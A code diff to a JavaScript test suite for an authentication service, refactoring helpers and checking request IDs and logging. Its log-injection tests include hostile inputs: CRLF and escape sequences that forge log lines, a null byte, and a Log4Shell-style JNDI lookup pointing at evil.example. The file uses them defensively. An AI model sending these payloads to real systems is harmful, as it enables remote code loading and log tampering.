@@ -108,7 +108,7 @@ describe("a request", () => {
       ["GET", "/health", "Health", 200, () => anybody.get("/health")],
     ];
     // The right password or an authentic token says who it was; nobody else is named.
-    const whose = (method, path, status) => {
+    const whose = (path, status) => {
       if (path === REGISTER && status === 201) return registered;
       const isNamed = (path === PROFILE && status === 200) || [REFRESH, PASSWORD_PATH, LOGOUT].includes(path);
       return isNamed ? person.id : null;
@@ -134,7 +134,7 @@ describe("a request", () => {
         },
         what,
       );
-      assert.equal(user, whose(method, path, status), what);
+      assert.equal(user, whose(path, status), what);
       assert.match(id, UUID);
       assert.equal(id, answer.headers.get("X-Request-Id"));
       if (status >= 400) assert.equal(id, answer.json.requestId);
@@ -157,9 +157,10 @@ describe("a request", () => {
         "password.stored_hash_damaged",
         401,
         {},
-        async () => (
-          await damage(), new Client(latchkey).post(LOGIN, { json: { username: person.email, password: PASSWORD } })
-        ),
+        async () => {
+          await damage();
+          return new Client(latchkey).post(LOGIN, { json: { username: person.email, password: PASSWORD } });
+        },
       ],
     ];
     for (const [event, status, control, send] of cases) {
@@ -272,6 +273,7 @@ describe("text of the request that would like to be a log line", () => {
     `zqx\\u000a${FORGED}`,
     `zqx\b\b\b\b${FORGED}`,
     `zqx%0d%0a${FORGED}`,
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends.
     "zqx${jndi:ldap://evil.example}",
     "zqx\0",
   ];
@@ -280,7 +282,10 @@ describe("text of the request that would like to be a log line", () => {
     const person = await signUp(latchkey);
     latchkey.logs.length = 0;
     let requests = 0;
-    const send = async (sent) => ((requests += 1), await sent);
+    const send = (sent) => {
+      requests += 1;
+      return sent;
+    };
     for (const text of TEXTS) {
       await send(
         new Client(latchkey).post(REGISTER, { json: { email: text, password: text, name: text, [text]: text } }),
